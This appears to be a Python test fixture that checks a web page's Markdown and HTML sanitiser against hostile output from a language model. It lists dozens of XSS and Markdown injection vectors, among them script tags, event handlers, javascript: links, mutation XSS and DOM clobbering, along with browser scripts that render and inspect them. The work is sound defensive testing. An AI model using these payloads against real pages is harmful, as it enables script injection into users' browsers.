"""What a hostile model may say, and a look at what the page has made of it.

The vectors are of the kinds of the OWASP cheat sheet on XSS filter evasion and of DOMPurify's own
tests (mutation XSS, DOM clobbering, namespace confusion), and Markdown's own ways: links, pictures,
definitions, autolinks, entities, code. ``EVIL`` stands for an address of another host.
"""

# ruff: noqa: E501 - a vector stands in one piece

from __future__ import annotations

import json
from collections.abc import Sequence

HTML = [
    "<script>hit()</script>",
    "<script src=EVIL/x.js></script>",
    "<ScRiPt/x>hit()</sCrIpT >",
    "<<script>hit()//<</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<script type=module>import 'EVIL/x.js'</script>",
    "<script>/*\n\n*/hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src='EVIL/i.png'>",
    "<img src=EVIL/i.png srcset='EVIL/j.png 2x' loading=eager>",
    '<img """><script>hit()</script>">',
    "<img src=x:x onerror\n=\nhit()>",
    "<image src=EVIL/i.png>",
    "<picture><source srcset=EVIL/i.png><img></picture>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><image href=EVIL/i.png /><use href='EVIL/u.svg#x'/></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hit()'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style><img onerror=hit() src>'></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<math href='javascript:hit()'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><img src=x onerror=hit()></template>",
    "<select><template><img src=x onerror=hit()></template></select>",
    "<table><td background=EVIL/b.png><caption><img src=x onerror=hit()></table>",
    "<body onload=hit() background=EVIL/b.png>",
    "<iframe src='javascript:parent.hit()'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=EVIL/></iframe><frameset><frame src=EVIL/></frameset>",
    "<object data=EVIL/o.swf></object><embed src=EVIL/e.swf><applet code=x></applet>",
    "<video src=EVIL/v.mp4 autoplay onloadstart=hit()></video><audio src=EVIL/a.mp3 autoplay>",
    "<video><source onerror=hit() src=EVIL/v.mp4></video><track src=EVIL/t.vtt>",
    "<link rel=stylesheet href=EVIL/s.css><link rel=prefetch href=EVIL/p>",
    "<style>@import 'EVIL/s.css'; * { background: url(EVIL/b.png) }</style>",
    "<p style='background: url(EVIL/b.png); position: fixed; inset: 0'>x</p>",
    "<base href=EVIL/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0; url=EVIL/'>",
    "<form action=EVIL/><input name=q autofocus onfocus=hit()><button>x</button></form>",
    "<input type=image src=EVIL/i.png><isindex action=EVIL/ type=image>",
    "<textarea autofocus onfocus=hit()></textarea><select autofocus onfocus=hit()><option>x</select>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<dialog open onclose=hit()></dialog><marquee onstart=hit()>x</marquee>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='&#1;javascript:hit()'>x</a>",
    "<a href='&#106;avascript&colon;hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href='vbscript:hit()' onclick=hit() ping=EVIL/ target=_top>x</a>",
    "<a href=//evil.example/>x</a><a href=/v1/runs>x</a><a href=blob:x>x</a>",
    "<a id=app name=status class=turn>x</a><p id=input name=cookie>x</p>",
    "<form id=document><input name=getElementById><input name=attributes></form>",
    "<img name=currentScript><a id=trustedTypes href='x:hit()'>x</a>",
    "<div is=x-y slot=z contenteditable draggable=true accesskey=x tabindex=1 hidden>x</div>",
    "<x onclick=hit() onmouseover=hit()>x</x><p/onpointerenter=hit()//>x",
    "<!--<img src='--><img src=x onerror=hit()//'>",
    "<![CDATA[<img src=x onerror=hit()>]]><?xml-stylesheet href=EVIL/s.css?><!ENTITY x SYSTEM 'EVIL/'>",
    "<!DOCTYPE x><html manifest=EVIL/m><head><title><img src=x onerror=hit()></title>",
    "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp><plaintext>x",
    "<b title='a\"b' <i onclick=hit()>x</i></b>\u2028<u\u00a0onclick=hit()>",
    "&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62; &LT;svg onload=hit()>",
    "<code class='language-x turn'>x</code><code class=\"language-'><img src=x onerror=hit()>\">y</code>",
    "<ol start='1' reversed type=a><li value=3 onclick=hit()>x</li></ol>",
    "<div" + " " * 40 + "onclick=hit()>" + "<div>" * 40 + "<img src=x onerror=hit()>",
]
"""HTML as it is."""

MARKDOWN = [
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit() 'y')",
    "[x](java\\script:hit()) [x](java&#115;cript:hit()) [x](javascript&colon;hit())",
    "[x](<javascript:hit()>) [x](\u0001javascript:hit())",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "[x](vbscript:hit) [x](file:///etc/passwd) [x](//evil.example/) [x](/v1/runs)",
    "[x](http://e.x/'onclick='hit()) [x](http://e.x/\"onclick=\"hit())",
    "[x](http://e.x/ \"' onclick=hit() x='\") [x](http://e.x '\" onmouseover=hit() \"')",
    "[<img src=x onerror=hit()>](http://e.x) [`<b onclick=hit()>`](http://e.x)",
    "![x](EVIL/i.png) ![x](EVIL/i.png 'onerror=hit()') ![](data:image/svg+xml,<svg/onload=hit()>)",
    '![x" onerror="hit()](EVIL/i.png) ![x](x"onerror="hit()) ![<script>hit()</script>](x)',
    "[![x](EVIL/i.png)](javascript:hit())",
    "[x][y]\n\n[y]: javascript:hit()\n\n[x][y] [y] ![y]\n\n[z]: EVIL/i.png 'onload=hit()'\n\n![z] [z]",
    '<javascript:hit()> <data:text/html,x> <http://e.x/"onclick=hit()>',
    "www.e.x/'onclick=hit() http://e.x/<script>hit()</script> a@b.c\"onclick=hit()",
    '```html\n<script>hit()</script>\n```\n\n```x"onclick=hit()\n<img src=x onerror=hit()>\n```',
    "```<img/src=x/onerror=hit()>\nx\n```\n~~~ '><script>hit()</script>\n</code></pre><img src=x onerror=hit()>",
    "    <img src=x onerror=hit()>\n\n`<img src=x onerror=hit()>` ``</code><script>hit()</script>``",
    "| <img src=x onerror=hit()> | b |\n|:-:|---|\n| <script>hit()</script> | [x](javascript:hit()) |",
    "- <svg onload=hit()>\n  1. > <img src=x onerror=hit()>\n- [ ] <input autofocus onfocus=hit()>",
    "# <img src=x onerror=hit()>\n\n<h1 id=app>\n\n*a <b onclick=hit()> **b* c</b>** ~~<s onclick=hit()>~~",
    "\\<script>hit()</script> <scr\\ipt>hit()</script> <<b>script>hit()<</b>/script>",
    "<b>**<i>*</b>x*</i>** <br onclick=hit()> <sub onclick=hit()>x</sub> <sub/onclick=hit()>",
    "<details>\n\n<img src=x onerror=hit()>\n\n</details>\n\n<style>\n\n* { color: red }\n\n</style>",
    '<a href="http://e.x\n\n" onclick="hit()">x</a>\n\n<!--\n\n--><img src=x onerror=hit()>',
]
"""Markdown; the HTML above is some, too."""

LOOK = """
  const TAGS = new Set(("a b blockquote br button code del div em h3 h4 h5 h6 hr i kbd li ol p pre s"
    + " strong sub sup table tbody td th thead tr ul").split(" "));
  const ATTRIBUTES = new Set(
    "align class data-language dir href rel start tabindex target title type".split(" "));
  const CLASS = /^(?:md|block|code|block code|copy-code|language-[\\w+#.-]{1,32})$/;
  const HREF = /^(?:https?:\\/\\/|mailto:)/i;
  const attributesOf = Object.getOwnPropertyDescriptor(Element.prototype, "attributes").get;
  const look = (host) => {
    const found = [];
    for (const element of host.querySelectorAll("*")) {
      if (!TAGS.has(element.localName)) found.push(`<${element.localName}>`);
      if (element.namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(element.namespaceURI);
      for (const { name, value } of attributesOf.call(element)) {
        if (!ATTRIBUTES.has(name)) found.push(`${element.localName} ${name}`);
        if (name === "class" && !CLASS.test(value)) found.push(`class ${value}`);
        if (name === "tabindex" && value !== "0") found.push(`tabindex ${value}`);
        if (name === "href" && !HREF.test(value)) found.push(`href ${value}`);
        if (name === "href" && element.rel !== "noopener noreferrer nofollow") found.push("no rel");
        if (name === "href" && element.target !== "_blank") found.push("no target");
      }
    }
    return found;
  };
"""
"""What in an element must never be there, in words."""

WATCH = """
  window.hits = 0;
  window.hit = window.alert = () => { window.hits += 1; };
  window.violations = [];
  document.addEventListener("securitypolicyviolation", (violation) =>
    window.violations.push([violation.effectiveDirective, violation.sourceFile]));
"""
"""What ran, and what the page's policy had to stop, with the script that had tried it."""


MOST_FAULTS = 200
"""So many are told."""

BAD_NODES = f"(() => {{ {LOOK} return [...document.querySelectorAll('.md')].flatMap(look); }})()"
"""What there is in the answers of the whole page."""


def program(body: str, texts: Sequence[str]) -> str:
    """A script that shows the texts in a new element ``host``, and looks at it each time."""
    return f"""(async () => {{
  {LOOK} {WATCH}
  const texts = {json.dumps(list(texts))};
  const host = document.createElement("div");
  document.body.append(host);
  const told = {{ faults: [], looks: 0 }};
  const note = (text) => {{
    told.looks += 1;
    for (const fault of look(host)) told.faults.push([fault, text]);
  }};
  {body}
  return {{ ...told, faults: told.faults.slice(0, MOST_FAULTS) }};
}})()""".replace("MOST_FAULTS", str(MOST_FAULTS))


SANITISED = """
  const { safeHTML } = await import("/assets/markdown/safe_html.js");
  for (const text of texts)
    for (let cut = 0; cut <= text.length; cut += 1) {
      host.innerHTML = safeHTML(text.slice(0, cut));
      note(text.slice(0, cut));
    }
"""
"""The sanitiser alone."""

GROWING = """
  const { html, render } = await import("/assets/vendor/preact.js");
  const { Markdown } = await import("/assets/markdown/markdown.js");
  for (const text of texts) {
    for (let cut = 0; cut <= text.length; cut += 1) {
      const now = text.slice(0, cut);
      for (const live of [true, false]) {
        render(html`<${Markdown} text=${now} live=${live} />`, host);
        note(now);
      }
    }
    render(null, host);
  }
"""
"""Markdown as it grows on the page, and as if it had ended at each cut."""

UNSANITISED = """
  const { safeHTML } = await import("/assets/markdown/safe_html.js");
  for (const text of texts)
    try {
      host.innerHTML = safeHTML(text);
      note(text);
      for (const link of host.querySelectorAll("a")) {
        link.target = "_self";
        if (link.protocol === "javascript:") link.click();
      }
      for (const form of host.querySelectorAll("form")) form.requestSubmit();
      await new Promise((done) => setTimeout(done, 5));
    } catch (error) {
      told.refused = (told.refused ?? 0) + (error instanceof TypeError);
    }
"""
"""A sanitiser that is none; links are followed and forms sent."""
